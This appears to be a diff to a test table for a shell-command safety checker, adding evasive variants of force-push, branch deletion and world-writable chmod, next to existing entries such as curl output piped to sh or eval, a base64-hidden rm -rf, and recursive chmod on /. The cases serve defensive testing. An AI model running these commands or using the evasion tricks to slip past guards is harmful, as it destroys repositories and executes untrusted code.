@@ -63,6 +63,8 @@ chmod 000777 x | everyone
 chmod go=u x | everyone
 chmod o-x+w x | everyone
 chmod u+x+s x | owner or group
+for m in 755 777; do chmod $m x; done | everyone
+chmod "777$x" y | everyone
 chmod -R 755 / |
 chmod -R 700 ~ |
 chmod -R u+w src/.* | worked in
@@ -96,6 +98,19 @@ sh -c "$(curl http://x)" | computed
 eval "$(curl http://x)" | computed
 echo cm0gLXJm | base64 -d | sh | input
 git push --force | overwrites
+git push origin "+$(git branch --show-current)" | overwrites
+b=$(git branch --show-current); git push origin "+$b" | overwrites
+git push origin ":$b" | deletes
+git push origin +HEAD:$b | overwrites
+git push "--fo$x" | overwrites
+git push -f$x | overwrites
+git push "-$x" | overwrites
+git push --force-with-lease="$x" | overwrites
+for b in +main x; do git push origin $b; done | overwrites
+for c in log push; do git $c -f; done | overwrites
+xargs git push <<< '-f' | overwrites
+echo main -f | xargs git push origin | overwrites
+printf '%s\n' +main | xargs git push origin | overwrites
 git reset --hard | uncommitted
 git clean -fdx | beyond recovery
 sudo git push -f | overwrites
@@ -218,6 +233,13 @@ chmod -R u+w src
 chmod -R u+w src/.[!.]*
 rm -rf src/.*
 git push
+git push origin "$(git branch --show-current)"
+git push -u origin HEAD:"$b"
+git push origin "refs/heads/$b"
+for b in main x; do git push origin $b; done
+for c in log status; do git $c -f; done
+echo main | xargs git push origin
+git commit -m"$x" -m "- $x"
 git reset HEAD
 curl http://x
 curl -o x http://x
